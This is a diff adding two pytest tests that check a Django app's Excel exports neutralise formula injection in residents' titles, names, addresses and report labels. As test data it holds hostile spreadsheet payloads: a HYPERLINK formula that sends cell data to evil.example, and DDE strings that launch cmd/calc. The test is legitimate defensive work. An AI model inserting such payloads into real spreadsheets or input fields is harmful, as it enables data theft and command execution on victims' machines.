@@ -203,3 +203,56 @@ def test_worker_hooks_run_in_order_and_survive_a_broken_one(tree: Any, personas:
     demand_services.demand_accept(demand=demand, actor=personas[Role.GRID_LEADER])
     again = run_pass()[1].result
     assert again.days == 1 and again.demands == 1
+
+
+@pytest.mark.django_db
+def test_a_residents_formula_is_exported_as_text(tree: Any, personas: Any, media: Any) -> None:
+    # An anonymous resident's title, name and address must not become a live formula in the clerk's Excel.
+    hostile = '=HYPERLINK("http://evil.example/?"&K2,"详情")'
+    demand = make_demand(grid=tree.grid, title=hostile, reporter_name="@SUM(1)", address="+1+cmd|' /C calc'!A0")
+    job = make_export_job(user=personas[Role.CITY_ADMIN], view="all")
+    assert services.export_jobs_run() == 1
+    resp = client_for(personas[Role.CITY_ADMIN]).get(reverse("dashboards:export_download", args=[job.pk]))
+    sheet = load_workbook(io.BytesIO(b"".join(resp.streaming_content))).worksheets[0]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == demand.code)
+    title, address = row[1], row[11]
+    assert (title.value, title.data_type, title.quotePrefix) == (hostile, "s", True)
+    assert (address.value, address.data_type, address.quotePrefix) == ("+1+cmd|' /C calc'!A0", "s", True)
+
+
+def test_area_report_writes_area_and_category_names_as_text() -> None:
+    import datetime as dt
+    from types import SimpleNamespace
+
+    from wangge.dashboards.exports import report_workbook
+
+    period = SimpleNamespace(start=dt.date(2026, 3, 9), end=dt.date(2026, 3, 15))
+    report = {
+        "title": "=1+1 周报",
+        "period": period,
+        "current": {"received": 3},
+        "previous": {},
+        "categories": [
+            {"name": "=cmd|'/C calc'!A0", "received": 1, "resolved": 0, "ontime_rate": None, "satisfaction_rate": None}
+        ],
+        "ranking": [
+            {
+                "position": 1,
+                "area": SimpleNamespace(name="-2+3镇"),
+                "received": 3,
+                "response_rate": 0.5,
+                "resolution_rate": None,
+                "satisfaction_rate": None,
+                "score": 0.5,
+            }
+        ],
+    }
+    wb = load_workbook(io.BytesIO(report_workbook(report)))
+    for sheet, coordinate, text in (
+        ("指标", "A1", "=1+1 周报"),
+        ("类别", "A2", "=cmd|'/C calc'!A0"),
+        ("排名", "B2", "-2+3镇"),
+    ):
+        cell = wb[sheet][coordinate]
+        assert cell.data_type == "s" and cell.quotePrefix and str(cell.value).startswith(text), (sheet, cell.value)
+    assert wb["指标"]["B3"].value == 3 and wb["排名"]["A2"].value == 1  # figures stay numbers
